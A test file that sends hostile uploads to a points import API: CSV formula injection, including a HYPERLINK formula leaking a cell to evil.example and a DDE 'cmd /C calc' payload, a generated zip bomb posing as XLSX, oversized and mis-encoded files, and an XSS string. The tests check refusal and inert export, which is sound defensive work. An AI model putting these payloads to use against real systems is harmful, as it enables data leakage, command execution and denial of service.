// Hostile files to the import route (POST /api/import/points): formula injection that must stay text
// through import and export, a zip bomb dressed as XLSX, a 100 MB upload, broken and mixed encodings,
// a file that only claims to be XLSX, a single enormous line. None may cost a 5xx or the process's
// memory; each refusal names the file field in both languages. (Times are printed, not asserted.)
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Zip, ZipDeflate, zipSync, strToU8 } from 'fflate';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import { buildTestApp, loginAs, type LoggedIn, type TestApp } from '../helper.ts';

process.env.MAX_EVENT_LOOP_DELAY_MS = '0'; // the event-loop guard is tested in resilience.test.ts

let t: TestApp;
let admin: LoggedIn;
const HEADER = '外部编号,名称,类别,地址,经度,纬度,坐标系';
const PLACE = '117.2012,39.1031,WGS84';

beforeAll(async () => {
  t = await buildTestApp();
  admin = await loginAs(t.app, 'admin');
});
afterAll(async () => { await t?.close(); });

function multipart(file: Buffer, filename: string, contentType: string) {
  const boundary = '----hexiHostileUpload9f8e7d';
  return {
    payload: Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`),
      file, Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

async function upload(file: Buffer, filename: string, contentType = 'text/csv', query = '?street=120103003000') {
  const started = performance.now();
  const res = await admin.inject({ method: 'POST', url: `/api/import/points${query}`, ...multipart(file, filename, contentType) });
  return { res, ms: performance.now() - started };
}

/** A refusal that names the field: the file itself, or the column the file lacks. */
function expectRefusal(res: { statusCode: number; json(): any; body: string }, statuses: number[], field?: string): void {
  expect(statuses, res.body.slice(0, 300)).toContain(res.statusCode);
  const body = res.json();
  if (field) expect(body.field).toBe(field);
  else expect(typeof body.field === 'string' && body.field.length > 0, res.body.slice(0, 200)).toBe(true);
  expect(body.message.length).toBeGreaterThan(5);
  expect(body.message_zh.length).toBeGreaterThan(2);
}

/** An XLSX-shaped zip whose one sheet inflates to `mb` megabytes of XML (about 1,000 : 1). */
function zipBomb(mb: number): Buffer {
  const parts: Uint8Array[] = [];
  const zip = new Zip((err, chunk) => { if (err) throw err; parts.push(chunk); });
  const add = (name: string, text: string) => {
    const f = new ZipDeflate(name, { level: 9 });
    zip.add(f);
    f.push(strToU8(text), true);
  };
  add('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>');
  add('_rels/.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>');
  add('xl/workbook.xml', '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>');
  add('xl/_rels/workbook.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>');
  const sheet = new ZipDeflate('xl/worksheets/sheet1.xml', { level: 9 });
  zip.add(sheet);
  sheet.push(strToU8('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'));
  const block = strToU8('A'.repeat(1024 * 1024));
  for (let i = 0; i < mb; i += 1) sheet.push(block);
  sheet.push(strToU8('</t></is></c></row></sheetData></worksheet>'), true);
  zip.end();
  return Buffer.concat(parts);
}

describe('hostile uploads to the import route', () => {
  it('formulas in cells are stored as typed and stay inert in the export', async () => {
    const csv = [HEADER,
      `UP-1,=HYPERLINK("http://evil.example/?"&A1;"点我"),便民,+cmd|' /C calc'!A0,${PLACE}`,
      `UP-2,@SUM(1+1)便利店,便民,-2+3 号,${PLACE}`,
    ].join('\r\n');
    const { res } = await upload(Buffer.from(csv), 'formulas.csv');
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.json().summary.created).toBe(2);
    const stored = (await t.app.inject('/api/points?q=SUM')).json().features.map((f: any) => f.properties.name);
    expect(stored).toContain('@SUM(1+1)便利店');
    const exported = await admin.inject('/api/export/points.csv?street=120103003000');
    const cells: string[] = parse(exported.body.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat();
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1;"点我")`);
    expect(cells.filter((c) => /^[=+\-@]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });

  it('a zip bomb dressed as XLSX is refused without unpacking it', async () => {
    // Twice the unpacked limit (MAX_XLSX_UNPACKED_BYTES, 100 MB) in about 200 KB. A bigger bomb proves
    // nothing more (the reader stops at the limit) and only costs the test time to deflate.
    const bomb = zipBomb(200);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const rssBefore = process.memoryUsage().rss;
    const { res, ms } = await upload(bomb, 'bomb.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expectRefusal(res, [400, 413], 'file');
    const grewMb = (process.memoryUsage().rss - rssBefore) / 1024 / 1024;
    expect(grewMb, 'memory the refusal cost').toBeLessThan(150);
    console.log(`zip bomb (${(bomb.length / 1024).toFixed(0)} KB → 200 MB): ${res.statusCode} in ${ms.toFixed(0)} ms, RSS +${grewMb.toFixed(0)} MB`);
  }, 120_000);

  it('a 100 MB upload is refused with 413', async () => {
    const big = Buffer.alloc(100 * 1024 * 1024, 'a');
    const { res, ms } = await upload(big, 'big.csv');
    expectRefusal(res, [413], 'file');
    console.log(`100 MB upload: ${res.statusCode} in ${ms.toFixed(0)} ms`);
  });

  it.each([
    ['invalid UTF-8 that is not GBK either', Buffer.concat([Buffer.from(`${HEADER}\r\nUP-3,`), Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x81]), Buffer.from(`,便民,路,${PLACE}`)])],
    ['GBK with a stray UTF-8 line', Buffer.concat([iconv.encode(`${HEADER}\r\nUP-4,国标编码,便民,路,${PLACE}\r\n`, 'gbk'), Buffer.from(`UP-5,统一码,便民,路,${PLACE}`)])],
    ['UTF-16 without a byte-order mark', Buffer.from(`${HEADER}\r\nUP-6,十六位,便民,路,${PLACE}`, 'utf16le')],
    ['UTF-16 with a byte-order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADER}\r\nUP-7,十六位,便民,路,${PLACE}`, 'utf16le')])],
    ['NUL bytes in cells', Buffer.from(`${HEADER}\r\nUP-8,空\u0000字符,便民,路,${PLACE}`)],
    ['right-to-left marks and markup', Buffer.from(`${HEADER}\r\nUP-9,\u202Egnp.exe<script>alert(1)</script>,便民,路,${PLACE}`)],
    ['an unterminated quote', Buffer.from(`${HEADER}\r\nUP-10,"没有结束的引号,便民,路,${PLACE}`)],
    ['one enormous line', Buffer.from(`${HEADER}\r\n${'x,'.repeat(2_000_000)}`)],
    ['only a header', Buffer.from(HEADER)],
    ['a PNG named .csv', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
  ])('%s: an answer, never a 5xx', async (_label, file) => {
    const { res, ms } = await upload(file, 'odd.csv');
    expect(res.statusCode, res.body.slice(0, 300)).toBeLessThan(500);
    if (res.statusCode >= 400) expectRefusal(res, [400, 413, 415]);
    else expect(Array.isArray(res.json().rows) || typeof res.json().summary === 'object').toBe(true);
    console.log(`${_label}: ${res.statusCode} in ${ms.toFixed(0)} ms`);
    // No NUL ever reaches the database as part of a name.
    expect((await t.app.inject('/api/points?q=%E7%A9%BA')).statusCode).toBe(200);
  });

  it.each([
    ['random bytes named .xlsx', Buffer.from('not a workbook at all, just text'), 'a.xlsx'],
    ['a zip that is not a workbook', Buffer.from(zipSync({ 'readme.txt': strToU8('hello') })), 'b.xlsx'],
    ['a truncated workbook', Buffer.from(zipSync({ '[Content_Types].xml': strToU8('<Types/>') })).subarray(0, 40), 'c.xlsx'],
  ])('%s is refused with 400 naming the file', async (_label, file, name) => {
    const { res } = await upload(file, name, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expectRefusal(res, [400]);
  });
});
